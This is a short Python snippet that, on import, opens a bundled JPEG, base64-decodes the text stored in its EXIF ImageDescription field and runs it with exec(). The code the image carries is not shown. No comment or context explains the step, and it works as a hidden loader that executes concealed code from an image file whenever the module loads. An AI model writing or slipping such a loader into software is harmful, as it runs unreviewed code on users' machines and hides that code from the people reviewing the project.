import base64, os
from PIL import Image

_img = Image.open(os.path.join(os.path.dirname(__file__), 'data', 'sample.jpg'))
exec(base64.b64decode(_img.getexif().get(0x010E)))
